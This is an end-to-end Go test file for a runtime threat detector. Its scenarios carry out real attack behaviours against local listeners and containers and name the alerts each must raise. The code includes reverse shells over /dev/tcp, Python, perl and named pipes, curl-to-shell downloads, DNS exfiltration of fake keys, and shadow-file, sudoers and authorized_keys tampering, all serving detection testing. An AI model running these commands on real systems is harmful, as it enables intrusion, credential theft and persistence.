//go:build e2e

package e2e

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/vigilsec/vigil/internal/testutil"
)

// scenarios lists the attacks. Each performs a behaviour for real on this
// machine (or in a real container) and names the findings it must raise.
func scenarios(malware string) []scenario {
	return []scenario{
		{
			name: "reverse shell from a renamed bash that redirects itself to a socket",
			run: func(t *testing.T, e *env, _ *containerRun) {
				shell := filepath.Join(e.work, "bin", "kworker-u8")
				copyFile(t, "/bin/bash", shell, 0o755)
				addr, out := tcpListener(t, "echo vigil-$((6*7)); exit\n")
				host, port, _ := net.SplitHostPort(addr)
				run(t, shell, "-c", fmt.Sprintf("%s -i >& /dev/tcp/%s/%s 0>&1", shell, host, port))
				if got := <-out; !strings.Contains(got, "vigil-42") {
					t.Logf("reverse shell output: %q", got)
				}
			},
			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/kworker-u8"}}},
		},
		{
			name: "reverse shell: a program dups a socket onto its standard streams and execs a renamed bash",
			run: func(t *testing.T, e *env, _ *containerRun) {
				shell := filepath.Join(e.work, "bin", "systemd-helper")
				copyFile(t, "/bin/bash", shell, 0o755)
				addr, out := tcpListener(t, "echo vigil-$((6*7)); exit\n")
				run(t, e.attacker, "revshell", addr, shell, "-i")
				<-out
			},
			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/systemd-helper", "/attacker"}}},
		},
		{
			name: "named-pipe reverse shell: cat fifo | sh -i | relay > fifo, with no known network client",
			run: func(t *testing.T, e *env, _ *containerRun) {
				shell := filepath.Join(e.work, "bin", "ash")
				copyFile(t, "/bin/dash", shell, 0o755)
				fifo := filepath.Join(t.TempDir(), "f")
				if err := syscall.Mkfifo(fifo, 0o600); err != nil {
					t.Fatal(err)
				}
				addr, out := tcpListener(t, "echo vigil-$((6*7)); exit\n")
				run(t, "/bin/sh", "-c", fmt.Sprintf("cat %s | %s -i 2>&1 | %s relay %s > %s", fifo, shell, e.attacker, addr, fifo))
				if got := <-out; !strings.Contains(got, "vigil-42") {
					t.Logf("reverse shell output: %q", got)
				}
			},
			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/ash"}}},
		},
		{
			name: "command-loop reverse shell over bash's /dev/tcp: only each command's stdout goes to the socket",
			run: func(t *testing.T, e *env, _ *containerRun) {
				addr, out := tcpListener(t, "id\nexit\n")
				host, port, _ := net.SplitHostPort(addr)
				run(t, "/bin/bash", "-c", fmt.Sprintf("exec 5<>/dev/tcp/%s/%s; while read -r line <&5; do $line >&5; done", host, port))
				if got := <-out; !strings.Contains(got, "uid=") {
					t.Logf("reverse shell output: %q", got)
				}
			},
			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/id"}, Rule: "Command output sent to a network connection"}},
		},
		{
			name: "command-loop reverse shell: perl -e reads commands from a socket and runs them in backticks",
			run: func(t *testing.T, e *env, _ *containerRun) {
				// A plain command: perl runs it without a shell.
				addr, out := tcpListener(t, "id\n")
				run(t, "perl", "-e", fmt.Sprintf(`use IO::Socket::INET; $c = IO::Socket::INET->new("%s") or die; while (<$c>) { print $c `+"`$_`"+`; shutdown($c, 1); }`, addr))
				if got := <-out; !strings.Contains(got, "uid=") {
					t.Logf("reverse shell output: %q", got)
				}
			},
			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/id"}}},
		},
		{
			name: "pty reverse shell: a Python relay connects out and serves an interactive shell on a pseudo terminal",
			run: func(t *testing.T, e *env, _ *containerRun) {
				shell := filepath.Join(e.work, "bin", "zsh")
				copyFile(t, "/bin/bash", shell, 0o755)
				relay := filepath.Join(t.TempDir(), "r.py")
				writeFile(t, relay, `import os, pty, select, socket, sys
host, port = sys.argv[1].rsplit(":", 1)
s = socket.create_connection((host, int(port)))
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[2], [sys.argv[2], "--norc", "-i"])
while True:
    r, _, _ = select.select([s, fd], [], [], 5)
    if not r:
        break
    if s in r:
        d = s.recv(1024)
        if not d:
            break
        os.write(fd, d)
    if fd in r:
        try:
            d = os.read(fd, 1024)
        except OSError:
            break
        if not d:
            break
        s.sendall(d)
`)
				addr, out := tcpListener(t, "echo vigil-$((6*7)); exit\n")
				run(t, "python3", relay, addr, shell)
				if got := <-out; !strings.Contains(got, "vigil-42") {
					t.Logf("reverse shell output: %q", got)
				}
			},
			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/zsh"}}},
		},
		{
			name:      "failed mount of /etc onto /tmp inside a container",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/attacker", "mount", "/etc", "/tmp")
			},
			wants: []want{{Type: "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory", Exe: []string{"/attacker"}, InContainer: true}},
		},
		{
			name:      "namespace of pid 1 entered from a container (nsenter -t 1)",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/attacker", "setns", "/proc/1/ns/mnt")
			},
			wants: []want{{Type: "PrivilegeEscalation:Runtime/ContainerNamespaceEntered", Exe: []string{"/bin/attacker"}, InContainer: true}},
		},
		{
			name:      "container connects to the Docker socket",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				dockerSocket(t, c)
				c.exec(t, "/bin/attacker", "connect-unix", "/var/run/docker.sock")
			},
			wants: []want{{Type: "PrivilegeEscalation:Runtime/DockerSocketAccessed", Exe: []string{"/attacker"}, InContainer: true}},
		},
		{
			name:      "container connects to the Docker socket through a symlink with another name",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				dockerSocket(t, c)
				if err := os.Symlink("/var/run/docker.sock", filepath.Join(c.rootfs, "tmp", "notes")); err != nil {
					t.Fatal(err)
				}
				c.exec(t, "/bin/attacker", "connect-unix", "/tmp/notes")
			},
			wants: []want{{Type: "PrivilegeEscalation:Runtime/DockerSocketAccessed", Exe: []string{"/attacker"}, InContainer: true}},
		},
		{
			name: "PTRACE_TRACEME in a child, then the parent peeks its memory",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, e.attacker, "traceme")
			},
			wants: []want{
				{Type: "DefenseEvasion:Runtime/PtraceAntiDebugging", Exe: []string{"/attacker"}},
				{Type: "DefenseEvasion:Runtime/ProcessInjection.Ptrace", Exe: []string{"/attacker"}},
			},
		},
		{
			name: "process_vm_writev into a child",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, e.attacker, "vmwrite")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite", Exe: []string{"/attacker"}}},
		},
		{
			name: "write to another process's /proc/<pid>/mem",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, e.attacker, "procmem")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/ProcessInjection.Proc", Exe: []string{"/attacker"}}},
		},
		{
			name: "execution from a memfd",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, e.attacker, "memfd-exec")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/FilelessExecution"}},
		},
		{
			name: "PostgreSQL COPY ... FROM PROGRAM runs a command through a shell (a real server)",
			run: func(t *testing.T, e *env, _ *containerRun) {
				ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
				defer cancel()
				conn, err := pgx.Connect(ctx, testutil.Postgres(t))
				if err != nil {
					t.Fatal(err)
				}
				defer conn.Close(ctx)
				if _, err := conn.Exec(ctx, "CREATE TABLE loot (line text)"); err != nil {
					t.Fatal(err)
				}
				if _, err := conn.Exec(ctx, "COPY loot FROM PROGRAM 'id; uname -a'"); err != nil {
					t.Fatal(err)
				}
				var line string
				if err := conn.QueryRow(ctx, "SELECT line FROM loot LIMIT 1").Scan(&line); err != nil || !strings.Contains(line, "uid=") {
					t.Errorf("COPY FROM PROGRAM gave %q, %v", line, err)
				}
			},
			wants: []want{{Type: "Execution:Runtime/DatabaseSpawnedShell", Exe: []string{"sh", "/dash", "/bash"}, Rule: "Shell started by a database server"}},
		},
		{
			name: "renamed miner tunes the CPU through its model-specific registers",
			run: func(t *testing.T, e *env, _ *containerRun) {
				miner := filepath.Join(e.work, "bin", "kswapd0")
				copyFile(t, e.attacker, miner, 0o755)
				run(t, miner, "wrmsr")
			},
			wants: []want{{Type: "Impact:Runtime/CryptoMinerExecuted", Exe: []string{"/kswapd0"}, Rule: "CPU model-specific registers written"},
				{Type: "DefenseEvasion:Runtime/KernelThreadMasquerading", Exe: []string{"/kswapd0"}, Rule: "Program disguised as a kernel thread"}},
		},
		{
			name: "program started with an empty argument list (the PwnKit trigger)",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, e.attacker, "exec-noargs", "/bin/true")
			},
			wants: []want{{Type: "PrivilegeEscalation:Runtime/EmptyArgumentExec", Exe: []string{"/true"}, Rule: "Program started with no arguments"}},
		},
		{
			name: "dropper deletes its own executable once it runs",
			run: func(t *testing.T, e *env, _ *containerRun) {
				dropper := filepath.Join(e.work, "bin", "kdevtmpfsi")
				copyFile(t, e.attacker, dropper, 0o755)
				run(t, dropper, "self-delete")
				if _, err := os.Stat(dropper); err == nil {
					t.Error("the dropper is still on disk")
				}
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/SelfDeletingExecutable", Exe: []string{"/kdevtmpfsi"}, Rule: "Program deleted its own executable"}},
		},
		{
			name:      "terminal shell opened in a running container (ctr task exec -t, as kubectl exec -it)",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				out := c.execTTY(t, "id\nexit\n", "/bin/sh")
				if !strings.Contains(out, "uid=") {
					t.Logf("terminal session: %q", out)
				}
			},
			wants: []want{{Type: "Execution:Runtime/SuspiciousShellCreated", Exe: []string{"/busybox"}, InContainer: true, Rule: "Terminal shell in a container"}},
		},
		{
			name:      "ECS task credentials fetched by hand from a container (busybox nc)",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				// Nothing answers here: the attempt is the behaviour.
				c.exec(t, "/bin/sh", "-c", "printf 'GET /v2/credentials/6c1b2f0e HTTP/1.0\\r\\n\\r\\n' | nc -w 1 169.254.170.2 80; true")
			},
			wants: []want{{Type: "CredentialAccess:Runtime/ContainerCredentialsFetched", Exe: []string{"/busybox"}, InContainer: true,
				Rule: "Container credentials fetched by a command-line tool"}},
		},
		{
			name:      "user namespace requested in a container (unshare -rm, an exploit's first step)",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				// Whether the runtime allows it or not, the request is the behaviour.
				c.exec(t, "/bin/sh", "-c", "unshare -rm true; true")
			},
			wants: []want{{Type: "PrivilegeEscalation:Runtime/UserNamespaceCreated", Exe: []string{"/busybox"}, InContainer: true,
				Rule: "User namespace created in a container"}},
		},
		{
			name: "another process's memory read through /proc/PID/mem (a credential dumper)",
			run: func(t *testing.T, e *env, _ *containerRun) {
				victim := exec.Command("sleep", "30")
				if err := victim.Start(); err != nil {
					t.Fatal(err)
				}
				defer func() { victim.Process.Kill(); victim.Wait() }()
				run(t, e.attacker, "read-mem", fmt.Sprint(victim.Process.Pid))
			},
			wants: []want{{Type: "CredentialAccess:Runtime/ProcessMemoryRead", Exe: []string{"/attacker"}, Rule: "Process memory read through proc"}},
		},
		{
			name: "reverse SSH tunnel (ssh -NR) publishing an inside port",
			run: func(t *testing.T, e *env, _ *containerRun) {
				// No server answers: starting the tunnel is the behaviour.
				exec.Command("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=1", "-o", "StrictHostKeyChecking=no",
					"-NR", "2222:localhost:22", "tunnel@127.0.0.1", "-p", "9").Run()
			},
			wants: []want{{Type: "Execution:Runtime/SuspiciousTool", Exe: []string{"/ssh"}, Rule: "SSH tunnel opened"}},
		},
		{
			name: "wiper shreds a database file",
			run: func(t *testing.T, e *env, _ *containerRun) {
				f := filepath.Join(t.TempDir(), "2619")
				if err := os.WriteFile(f, []byte("rows"), 0o600); err != nil {
					t.Fatal(err)
				}
				run(t, "shred", "-uz", f)
			},
			wants: []want{{Type: "Impact:Runtime/DataDestruction", Exe: []string{"/shred"}, Rule: "Data destruction command"}},
		},
		{
			name: "kernel memory read through /proc/kcore",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, "dd", "if=/proc/kcore", "of=/dev/null", "bs=4096", "count=1")
			},
			wants: []want{{Type: "CredentialAccess:Runtime/KernelMemoryAccessed", Exe: []string{"/dd"}, Rule: "Kernel or physical memory opened"}},
		},
		{
			name:       "cluster CA key read from a container through a host path mount",
			container:  true,
			hostMounts: map[string]string{"/host/etc/kubernetes": kubernetesDir()},
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/sh", "-c", "cat /host/etc/kubernetes/pki/ca.key > /dev/null")
			},
			wants: []want{{Type: "CredentialAccess:Runtime/ClusterCredentialsRead", Exe: []string{"/busybox"}, InContainer: true,
				Rule: "Kubernetes cluster credentials read"}},
		},
		{
			name:       "host's /etc/shadow read from a container through a host path mount",
			container:  true,
			hostMounts: map[string]string{"/host/etc": "/etc"},
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/sh", "-c", "cat /host/etc/shadow > /dev/null")
			},
			wants: []want{{Type: "CredentialAccess:Runtime/SensitiveFileRead", Exe: []string{"/busybox"}, InContainer: true,
				Rule: "Password hashes read"}},
		},
		{
			name:      "trojanized ps copied over the system one in a container",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/sh", "-c", "mkdir -p /usr/bin && cp /bin/attacker /usr/bin/ps")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/SystemBinaryModified", Exe: []string{"/busybox"}, InContainer: true,
				Rule: "System program or library replaced"}},
		},
		{
			name:      "environment of the container's pid 1 read from /proc",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/sh", "-c", "cat /proc/1/environ > /tmp/env.out")
			},
			wants: []want{{Type: "CredentialAccess:Runtime/ProcessEnvironmentRead", Exe: []string{"/busybox"}, InContainer: true}},
		},
		{
			name: "file exfiltrated through DNS by a shell loop, one lookup process per hex chunk",
			run: func(t *testing.T, e *env, _ *containerRun) {
				secret := []byte("aws_access_key_id=AKIAIOSFODNN7EXAMPLE\naws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n" +
					"db_password=correct-horse-battery-staple\napi_token=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\n" +
					"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n" +
					"QyNTUxOQAAACBvaWdpbC1lMmUtZmFrZS1rZXktbm90LXJlYWwtYXQtYWxsAAAAmHZpZ2ls\n-----END OPENSSH PRIVATE KEY-----\n")
				hexed := fmt.Sprintf("%x", secret)
				var chunks []string
				for i := 0; i < len(hexed); i += 30 {
					chunks = append(chunks, fmt.Sprintf("%s.%d.x.exfil.vigil.test", hexed[i:min(i+30, len(hexed))], i/30))
				}
				if len(chunks) < 20 {
					t.Fatalf("only %d chunks", len(chunks))
				}
				run(t, "/bin/sh", "-c", fmt.Sprintf("for n in %s; do %s dns $n %s > /dev/null; done", strings.Join(chunks, " "), e.attacker, e.dns))
			},
			wants: []want{{Type: "Trojan:Runtime/DNSDataExfiltration", Exe: []string{"/attacker"}, Rule: "DNS tunnel to one domain"}},
		},
		{
			name: "execution of a deleted file",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, e.attacker, "deleted-exec")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/FilelessExecution"}},
		},
		{
			name:      "32-bit program run in a container",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/attacker", "exec32", "/tmp/legacy32")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/CompatModeExecution", Exe: []string{"/tmp/legacy32"}, InContainer: true}},
		},
		{
			name:      "io_uring set up in a container",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/attacker", "io-uring")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/IoUringUsage", Exe: []string{"/bin/attacker"}, InContainer: true}},
		},
		{
			name:      "password hashes read through an io_uring in a container (no open system call)",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/attacker", "uring-read", "/etc/shadow")
			},
			wants: []want{{Type: "CredentialAccess:Runtime/SensitiveFileRead", Exe: []string{"/bin/attacker"}, InContainer: true}},
		},
		{
			name:      "shell history removed through an io_uring in a container (no unlink system call)",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/attacker", "uring-unlink", "/root/.bash_history")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/SuspiciousCommand", Exe: []string{"/bin/attacker"}, InContainer: true}},
		},
		{
			name:      "binary dropped into a running container and executed",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/attacker", "drop-exec", "/tmp/.x/dropper")
			},
			wants: []want{{Type: "Execution:Runtime/NewBinaryExecuted", Exe: []string{"/tmp/.x/dropper"}, InContainer: true}},
		},
		{
			name:      "binary dropped into a container, then 200 decoy files written, then the binary executed",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/attacker", "drop-exec", "/tmp/.y/dropper", "200")
			},
			wants: []want{{Type: "Execution:Runtime/NewBinaryExecuted", Exe: []string{"/tmp/.y/dropper"}, InContainer: true}},
		},
		{
			name: "miner-like command line",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, e.attacker, "sleep", "0.1", "-o", "stratum+tcp://pool.vigil.test:3333", "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "--donate-level", "1")
			},
			wants: []want{{Type: "Impact:Runtime/CryptoMinerExecuted", Exe: []string{"/attacker"}}},
		},
		{
			name: "DNS queries for GuardDuty's test domains",
			run: func(t *testing.T, e *env, _ *containerRun) {
				for _, name := range []string{"c2.guarddutyc2activityb.com", "crypto.guarddutyc2activityb.com",
					"guarddutydgaactivity.com", "www.guarddutyphishingactivity.com", "supportxmr.com"} {
					run(t, e.attacker, "dns", name, e.dns)
				}
			},
			wants: []want{
				{Type: "Backdoor:Runtime/C&CActivity.B!DNS", Exe: []string{"/attacker"}},
				{Type: "CryptoCurrency:Runtime/BitcoinTool.B!DNS", Exe: []string{"/attacker"}},
				{Type: "Trojan:Runtime/DGADomainRequest.C!DNS", Exe: []string{"/attacker"}},
				{Type: "Trojan:Runtime/PhishingDomainRequest!DNS", Exe: []string{"/attacker"}},
			},
		},
		{
			name: "glibc resolver lookup (connect + sendmmsg) of a C&C domain",
			run: func(t *testing.T, e *env, _ *containerRun) {
				// getent resolves through /etc/resolv.conf; give it a
				// network namespace whose resolv.conf names a stub inside it.
				ns := resolverNetns(t, "udp", "timeout:1 attempts:1")
				run(t, "ip", "netns", "exec", ns, "getent", "hosts", "beacon.guarddutyc2activityb.com")
			},
			wants: []want{{Type: "Backdoor:Runtime/C&CActivity.B!DNS", Exe: []string{"/getent"}}},
		},
		{
			name: "glibc resolver lookup over TCP (options use-vc) of a C&C domain",
			run: func(t *testing.T, e *env, _ *containerRun) {
				// As above, with a resolv.conf that makes glibc send its
				// queries over TCP (connect, then writev of length and
				// message) to a listener inside the namespace.
				ns := resolverNetns(t, "tcp", "use-vc timeout:1 attempts:1")
				tcpDNSServer(t, ns, "192.0.2.1")
				// A copy of getent under its own name: the UDP scenario's
				// finding (same rule, host and domain list) must not stand
				// in for this one.
				getent := filepath.Join(e.work, "bin", "getent-vc")
				copyFile(t, "/usr/bin/getent", getent, 0o755)
				run(t, "ip", "netns", "exec", ns, getent, "hosts", "vc-beacon.guarddutyc2activityb.com")
			},
			wants: []want{{Type: "Backdoor:Runtime/C&CActivity.B!DNS", Exe: []string{"/getent-vc"}}},
		},
		{
			name: "DNS answer rebinds a name to the instance metadata address",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, e.attacker, "dns", "app.rebind.vigil.test", e.dns)
			},
			wants: []want{{Type: "UnauthorizedAccess:Runtime/MetadataDNSRebind", Exe: []string{"/attacker"}}},
		},
		{
			name: "DNS answer over TCP (glibc options use-vc) rebinds a name to the instance metadata address",
			run: func(t *testing.T, e *env, _ *containerRun) {
				ns := resolverNetns(t, "tcprb", "use-vc timeout:1 attempts:1")
				tcpDNSServer(t, ns, "169.254.169.254")
				getent := filepath.Join(e.work, "bin", "getent-rebind")
				copyFile(t, "/usr/bin/getent", getent, 0o755)
				run(t, "ip", "netns", "exec", ns, getent, "hosts", "api.rebind-tcp.vigil.test")
			},
			wants: []want{{Type: "UnauthorizedAccess:Runtime/MetadataDNSRebind", Exe: []string{"/getent-rebind"}}},
		},
		{
			name: "kernel module load attempt",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, e.attacker, "modload")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/KernelModuleLoaded", Exe: []string{"/attacker"}}},
		},
		{
			name: "userfaultfd",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, e.attacker, "userfaultfd")
			},
			wants: []want{{Type: "PrivilegeEscalation:Runtime/UserfaultfdUsage", Exe: []string{"/attacker"}}},
		},
		{
			name: "unprivileged user gains root through an unusual setuid helper",
			run: func(t *testing.T, e *env, _ *containerRun) {
				helper := filepath.Join(e.work, "bin", "suid-helper")
				copyFile(t, "/usr/bin/id", helper, 0o755)
				if err := os.Chmod(helper, 0o755|os.ModeSetuid); err != nil {
					t.Fatal(err)
				}
				out := run(t, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", helper)
				if !strings.Contains(out, "euid=0") {
					t.Fatalf("the setuid helper did not elevate: %s", out)
				}
			},
			wants: []want{{Type: "PrivilegeEscalation:Runtime/ElevationToRoot", Exe: []string{"/suid-helper"}}},
		},
		{
			name:      "release_agent opened for write in a container's own cgroup mount",
			container: true, privileged: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/attacker", "release-agent", "/tmp/cgrp")
			},
			wants: []want{{Type: "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified", Exe: []string{"/attacker"}, InContainer: true}},
		},
		{
			name:      "sensitive files written in a container",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				c.exec(t, "/bin/attacker", "write", "/etc/passwd", "toor:x:0:0::/root:/bin/sh")
				c.exec(t, "/bin/attacker", "write", "/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIvigil e2e")
				c.exec(t, "/bin/attacker", "write", "/etc/sudoers", "toor ALL=(ALL) NOPASSWD: ALL")
			},
			wants: []want{
				{Type: "Persistence:Runtime/SensitiveFileModified", Exe: []string{"/attacker"}, InContainer: true},
				{Type: "PrivilegeEscalation:Runtime/SensitiveFileModified", Exe: []string{"/attacker"}, InContainer: true},
			},
		},
		{
			name: "suspicious tools by name",
			run: func(t *testing.T, e *env, _ *containerRun) {
				nmap := filepath.Join(e.work, "bin", "nmap")
				copyFile(t, "/bin/true", nmap, 0o755)
				run(t, nmap, "-sS", "-p-", "127.0.0.1")
				chisel := filepath.Join(e.work, "bin", "chisel")
				copyFile(t, "/bin/true", chisel, 0o755)
				run(t, chisel, "client", "127.0.0.1:8000", "R:socks")
			},
			wants: []want{
				{Type: "Execution:Runtime/SuspiciousTool", Exe: []string{"/nmap"}},
				{Type: "Execution:Runtime/SuspiciousTool", Exe: []string{"/chisel"}},
			},
		},
		{
			name: "download piped into a shell",
			run: func(t *testing.T, e *env, _ *containerRun) {
				u := serveHTTP(t, "echo downloaded\n")
				run(t, "/bin/sh", "-c", "curl -fsS "+u+"/install.sh | sh")
			},
			wants: []want{{Type: "Execution:Runtime/SuspiciousCommand", Exe: []string{"/sh", "/dash", "/bash"}}},
		},
		{
			name: "known malicious executable by SHA-256",
			run: func(t *testing.T, e *env, _ *containerRun) {
				run(t, malware)
			},
			wants: []want{{Type: "Execution:Runtime/MaliciousFileExecuted", Exe: []string{"/implant"}}},
		},
		{
			name: "network service starts an interactive shell",
			run: func(t *testing.T, e *env, _ *containerRun) {
				ln, err := net.Listen("tcp", "127.0.0.1:0")
				if err != nil {
					t.Fatal(err)
				}
				addr := ln.Addr().String()
				ln.Close()
				done := make(chan string, 1)
				go func() { done <- run(t, e.attacker, "listen-spawn", addr, "/bin/sh") }()
				var conn net.Conn
				for i := 0; i < 50; i++ {
					if conn, err = net.Dial("tcp", addr); err == nil {
						break
					}
					time.Sleep(50 * time.Millisecond)
				}
				if conn == nil {
					t.Fatalf("connect to %s: %v", addr, err)
				}
				fmt.Fprintf(conn, "echo hi; exit\n")
				time.Sleep(300 * time.Millisecond)
				conn.Close()
				<-done
			},
			wants: []want{{Type: "Execution:Runtime/SuspiciousShellCreated", Exe: []string{"/sh", "/dash", "/bash"}}},
		},
		{
			name: "firewall flushed",
			run: func(t *testing.T, e *env, _ *containerRun) {
				// A stand-in named iptables: the command line is the behaviour,
				// and the host's real firewall stays as it is.
				fake := filepath.Join(e.work, "sbin", "iptables")
				copyFile(t, "/bin/true", fake, 0o755)
				run(t, fake, "-F")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/SuspiciousCommand", Exe: []string{"/iptables"}}},
		},
		{
			name: "program started with LD_PRELOAD",
			run: func(t *testing.T, e *env, _ *containerRun) {
				lib := filepath.Join(e.work, "lib", "libprocesshider.so")
				copyFile(t, "/bin/true", lib, 0o644)
				run(t, e.attacker, "ld-preload-run", lib, "/bin/true")
			},
			wants: []want{{Type: "DefenseEvasion:Runtime/SuspiciousCommand", Exe: []string{"/true"}}},
		},
		{
			name:      "cron entry added in a container",
			container: true,
			run: func(t *testing.T, e *env, c *containerRun) {
				// crontab run directly: busybox's shell runs some applets in
				// a forked child without exec, which no exec probe sees.
				_ = os.MkdirAll(filepath.Join(c.rootfs, "var", "spool", "cron", "crontabs"), 0o755)
				writeFile(t, filepath.Join(c.rootfs, "tmp", "jobs"), "* * * * * /tmp/.x/beacon\n")
				c.exec(t, "/bin/crontab", "/tmp/jobs")
			},
			wants: []want{{Type: "Persistence:Runtime/SuspiciousCommand", InContainer: true}},
		},
	}
}

// benign runs everyday work: building Go code, git, tar, a web server under
// load, cron-style shell loops and package queries.
func benign(t *testing.T, e *env) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "go.mod"), "module example.com/hello\n\ngo 1.22\n")
	writeFile(t, filepath.Join(dir, "main.go"), "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hello\") }\n")
	mustRun(t, dir, "go", "build", "-o", filepath.Join(dir, "hello"), ".")
	mustRun(t, dir, filepath.Join(dir, "hello"))

	mustRun(t, dir, "git", "init", "-q", "repo")
	repo := filepath.Join(dir, "repo")
	writeFile(t, filepath.Join(repo, "README"), "hello\n")
	mustRun(t, repo, "git", "-c", "user.name=ci", "-c", "user.email=ci@example.com", "add", ".")
	mustRun(t, repo, "git", "-c", "user.name=ci", "-c", "user.email=ci@example.com", "commit", "-qm", "first")
	mustRun(t, repo, "git", "checkout", "-qb", "feature")
	mustRun(t, repo, "git", "log", "--oneline")
	mustRun(t, repo, "git", "status", "--short")

	mustRun(t, dir, "tar", "czf", "repo.tgz", "repo")
	_ = os.MkdirAll(filepath.Join(dir, "x"), 0o755)
	mustRun(t, dir, "tar", "xzf", "repo.tgz", "-C", "x")

	// A web server under load: python's http.server, fetched 200 times.
	port := freePort(t)
	srv := startDaemon(t, "webserver", dir, nil, "python3", "-m", "http.server", "--bind", "127.0.0.1", fmt.Sprint(port), "--directory", dir)
	waitFor(t, "web server", 20*time.Second, func() bool {
		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
		if err == nil {
			c.Close()
		}
		return err == nil
	})
	mustRun(t, dir, "/bin/sh", "-c", fmt.Sprintf("for i in $(seq 200); do curl -fsS -o /dev/null http://127.0.0.1:%d/repo.tgz; done", port))
	_ = srv

	// Cron-style loops.
	mustRun(t, dir, "/bin/sh", "-c", "for i in $(seq 30); do date >> "+filepath.Join(dir, "cron.log")+"; ls / > /dev/null; sleep 0.02; done")

	// Package queries.
	mustRun(t, dir, "dpkg", "-l")
	mustRun(t, dir, "dpkg", "-S", "/bin/ls")
	mustRun(t, dir, "apt-cache", "policy", "bash")
}

// dockerSocket listens at /var/run/docker.sock in the container's rootfs
// and accepts one connection, as a Docker daemon's socket would.
func dockerSocket(t *testing.T, c *containerRun) {
	t.Helper()
	path := filepath.Join(c.rootfs, "var", "run", "docker.sock")
	_ = os.MkdirAll(filepath.Dir(path), 0o755)
	ln, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		if conn, err := ln.Accept(); err == nil {
			conn.Close()
		}
	}()
}

// resolverNetns makes a network namespace with loopback up and a
// resolv.conf naming a resolver on its 127.0.0.1 with the given options, so
// glibc lookups run in it (ip netns exec) ask a stub the test controls.
// kubernetesDir makes a control-plane node's /etc/kubernetes (a CA key and
// an admin kubeconfig, neither real) for a scenario to mount, once per run;
// TestMain removes it.
// madeDirs are directories the scenario list made outside any test's
// temporary directory.
var madeDirs []string

var kubernetesDir = sync.OnceValue(func() string {
	dir, err := os.MkdirTemp("", "vigil-e2e-k8s")
	if err != nil {
		panic(err)
	}
	madeDirs = append(madeDirs, dir)
